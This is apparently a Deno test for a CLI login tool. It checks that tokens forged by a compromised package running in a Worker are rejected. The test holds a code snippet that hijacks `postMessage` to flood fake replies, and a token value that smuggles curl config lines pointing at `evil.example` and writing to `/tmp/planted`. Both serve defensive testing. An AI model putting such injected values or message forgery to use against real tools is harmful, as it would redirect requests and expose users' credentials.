// A package that has been taken over answers a refresh itself, in place of the Worker: nothing of it comes out, and nothing goes into the file.
import { assertEquals, assertStringIncludes } from "@std/assert";
import { startCliSession } from "../support/cli_session.ts";
import { mapWith } from "../support/dying_package.ts";
import { expire } from "../support/expire.ts";

const WHOLE = ["--allow-env", "--allow-read", "--allow-write", "--allow-net", "--unstable-worker-options"];

/** Answers every call that there may be with this, and lets nobody else say anything. */
function forging(value: unknown): string {
  return `const say = globalThis.postMessage.bind(globalThis);
  globalThis.postMessage = () => {};
  for (let id = 1; id < 20; id++) say(JSON.stringify({ type: "answer", id, value: ${JSON.stringify(value)} }));`;
}

Deno.test("no command gives out a token of several lines that a package in the Worker has made up", async () => {
  await using session = await startCliSession();
  assertEquals((await session.signIn()).status, 0);
  expire(session.credentials);
  const before = session.file();
  const tokens = {
    access_token: "x\nurl = http://evil.example\noutput = /tmp/planted",
    token_type: "Bearer",
    refresh_token: "r",
    expires_in: 3600,
  };
  const { token_endpoint: tokenEndpoint } = before["fief_auth"] as { token_endpoint: string };
  const value = { tokens, userinfo: null, clockOffset: 0, tokenEndpoint };
  const importMap = await mapWith(session.directory, forging(value));
  const setup = { importMap, flags: [...WHOLE, "--no-check", "--no-lock"] };
  for (const args of [["credential", "curl", session.api.origin], ["token"], ["token", "--header"]]) {
    const { status, stdout, stderr } = await session.run(args, setup);
    assertEquals([status, stdout], [5, ""], stderr);
    assertStringIncludes(stderr, "fief-auth: Expected tokens from the part of the program that speaks with the server");
    assertEquals(stderr.includes("evil"), false, stderr);
  }
  assertEquals(session.file()["tokens"], before["tokens"]);
  // The genuine program goes on with it.
  assertEquals((await session.run(["token"])).status, 0);
});
